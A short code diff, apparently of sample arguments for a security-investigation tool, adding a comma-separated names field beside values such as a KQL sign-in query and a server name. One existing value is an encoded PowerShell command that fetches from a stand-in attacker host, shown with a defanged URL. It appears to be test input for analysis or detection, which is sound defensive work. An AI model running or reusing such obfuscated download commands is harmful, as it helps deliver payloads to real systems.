@@ -11,6 +11,7 @@ from jupyter import Kernel
 ARGUMENTS = {
     "text": "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA= hxxp://evil[.]example/b",
     "name": "adelev@contoso.com",
+    "names, with commas between them": "adelev@contoso.com, johns, nobody",
     "host": "SRV-FIN01",
     "KQL text": "SigninLogs | summarize count() by ResultType",
     "folder or file": None,
